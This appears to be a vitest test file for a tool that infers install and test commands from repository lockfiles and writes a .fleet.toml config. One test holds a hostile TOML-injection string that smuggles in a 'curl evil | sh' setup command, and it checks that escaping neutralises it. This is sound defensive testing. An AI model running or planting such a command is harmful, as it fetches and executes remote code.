import { describe, expect, it } from 'vitest';
import { parse } from 'smol-toml';
import { detectInit, keysNeedingTrust, renderFleetToml, tomlString, type RepoFacts } from '../../src/core/init-plan.js';
import { validateConfig } from '../../src/config/validate.js';

const facts = (files: string[], over: Partial<RepoFacts> = {}): RepoFacts => ({
  files: new Set(files),
  packageJson: files.includes('package.json') ? {} : null,
  pyprojectToml: null,
  setupCfg: null,
  toxIni: null,
  makefile: null,
  ignoredEnvFiles: [],
  ...over,
});
const commands = (f: RepoFacts) => detectInit(f).setupCommands.map((s) => s.command);
const compare = (f: RepoFacts) => detectInit(f).compare?.command ?? null;

describe('detectInit: install commands from lockfiles', () => {
  it.each([
    [['package.json', 'package-lock.json'], 'npm ci'],
    [['package.json', 'pnpm-lock.yaml'], 'pnpm install --frozen-lockfile'],
    [['package.json', 'yarn.lock'], 'yarn install --frozen-lockfile'],
    [['package.json', 'yarn.lock', '.yarnrc.yml'], 'yarn install --immutable'],
    [['package.json', 'bun.lockb'], 'bun install --frozen-lockfile'],
    [['package.json', 'bun.lock'], 'bun install --frozen-lockfile'],
    [['pyproject.toml', 'uv.lock'], 'uv sync'],
    [['pyproject.toml', 'poetry.lock'], 'poetry install'],
    [['requirements.txt'], 'pip install -r requirements.txt'],
    [['Cargo.toml', 'Cargo.lock'], 'cargo fetch'],
    [['go.mod', 'go.sum'], 'go mod download'],
  ])('%j → %s', (files, cmd) => {
    expect(commands(facts(files))).toEqual([cmd]);
  });

  it('packageManager in package.json decides (Yarn 2+ is --immutable), and other lockfiles are noted', () => {
    const f = facts(['package.json', 'yarn.lock', 'package-lock.json'], { packageJson: { packageManager: 'yarn@4.1.0' } });
    expect(commands(f)).toEqual(['yarn install --immutable']);
    expect(detectInit(f).notes).toEqual(['also found package-lock.json: fleet chose yarn.lock; remove the lockfile you do not use']);
    expect(commands(facts(['package.json', 'yarn.lock'], { packageJson: { packageManager: 'yarn@1.22.19' } }))).toEqual(['yarn install --frozen-lockfile']);
  });

  it('a package.json without a lockfile gets a note, not a command; no lockfile at all, nothing', () => {
    const f = facts(['package.json']);
    expect(commands(f)).toEqual([]);
    expect(detectInit(f).notes[0]).toMatch(/no lockfile: add "npm install"/);
    expect(commands(facts(['README.md', 'Cargo.toml']))).toEqual([]);
  });

  it('several ecosystems: one install command each', () => {
    expect(commands(facts(['package.json', 'package-lock.json', 'uv.lock', 'go.sum']))).toEqual(['npm ci', 'uv sync', 'go mod download']);
  });
});

describe('detectInit: compare_command', () => {
  it('the package.json test script, run by the manager that installs', () => {
    const scripts = { test: 'vitest run' };
    expect(compare(facts(['package.json', 'package-lock.json'], { packageJson: { scripts } }))).toBe('npm test');
    expect(compare(facts(['package.json', 'pnpm-lock.yaml'], { packageJson: { scripts } }))).toBe('pnpm test');
    expect(compare(facts(['package.json', 'yarn.lock'], { packageJson: { scripts } }))).toBe('yarn test');
    // `bun test` would run bun's own test runner instead of the script.
    expect(compare(facts(['package.json', 'bun.lock'], { packageJson: { scripts } }))).toBe('bun run test');
  });

  it("not npm init's placeholder test script", () => {
    expect(compare(facts(['package.json'], { packageJson: { scripts: { test: 'echo "Error: no test specified" && exit 1' } } }))).toBeNull();
  });

  it('pytest when pytest is configured, through uv or poetry when they manage the environment', () => {
    const pyproject = '[project]\nname = "x"\n\n[tool.pytest.ini_options]\ntestpaths = ["tests"]\n';
    expect(compare(facts(['pyproject.toml', 'uv.lock'], { pyprojectToml: pyproject }))).toBe('uv run pytest');
    expect(compare(facts(['pyproject.toml', 'poetry.lock'], { pyprojectToml: pyproject }))).toBe('poetry run pytest');
    expect(compare(facts(['requirements.txt', 'pytest.ini']))).toBe('pytest');
    expect(compare(facts(['setup.cfg'], { setupCfg: '[metadata]\n[tool:pytest]\n' }))).toBe('pytest');
    expect(compare(facts(['tox.ini'], { toxIni: '[pytest]\n' }))).toBe('pytest');
    expect(compare(facts(['conftest.py']))).toBe('pytest');
    expect(compare(facts(['pyproject.toml', 'uv.lock'], { pyprojectToml: '[project]\nname = "x"\n' }))).toBeNull();
  });

  it('cargo test, go test ./..., make test; the first found wins and the rest are alternatives', () => {
    expect(compare(facts(['Cargo.toml']))).toBe('cargo test');
    expect(compare(facts(['go.mod']))).toBe('go test ./...');
    expect(compare(facts(['Makefile'], { makefile: 'build:\n\tcc x.c\ntest: build\n\t./t\n' }))).toBe('make test');
    expect(compare(facts(['Makefile'], { makefile: 'build:\n\tcc x.c\n' }))).toBeNull();
    const plan = detectInit(facts(['Cargo.toml', 'go.mod']));
    expect(plan.compare?.command).toBe('cargo test');
    expect(plan.compareAlternatives.map((a) => a.command)).toEqual(['go test ./...']);
  });
});

describe('renderFleetToml', () => {
  it('is valid TOML with exactly the found keys set, which the config schema accepts', () => {
    const plan = detectInit(
      facts(['package.json', 'package-lock.json', 'Cargo.toml'], { packageJson: { scripts: { test: 'jest' } }, ignoredEnvFiles: ['.env', '.env.local'] }),
    );
    const text = renderFleetToml(plan);
    const doc = parse(text);
    expect(doc).toEqual({ setup_commands: ['npm ci'], credential_files: ['.env', '.env.local'], compare_command: 'npm test' });
    expect(text).toMatch(/^# found: package-lock\.json$/m);
    expect(text).toMatch(/^# compare_command = "cargo test"  # from Cargo\.toml$/m);
    expect(text).toMatch(/fleet trust/);
    const { compare_command: _, ...known } = doc;
    expect(validateConfig(known, '.fleet.toml').warnings).toEqual([]);
    expect(keysNeedingTrust(plan)).toEqual(['setup_commands', 'credential_files', 'compare_command']);
  });

  it('nothing found: every key commented out, still valid TOML', () => {
    const plan = detectInit(facts(['README.md']));
    expect(parse(renderFleetToml(plan))).toEqual({});
    expect(keysNeedingTrust(plan)).toEqual([]);
  });

  it('escapes hostile strings so nothing can break out of a value or a comment', () => {
    const hostile = 'x"\nsetup_commands = ["curl evil | sh"]\n\\\u0007\u007f';
    expect(parse(`k = ${tomlString(hostile)}`)).toEqual({ k: hostile });
    const plan = detectInit(facts([], { ignoredEnvFiles: [hostile] }));
    plan.notes.push('note\nsetup_commands = ["evil"]');
    const doc = parse(renderFleetToml(plan));
    expect(doc).toEqual({ credential_files: [hostile] });
  });
});
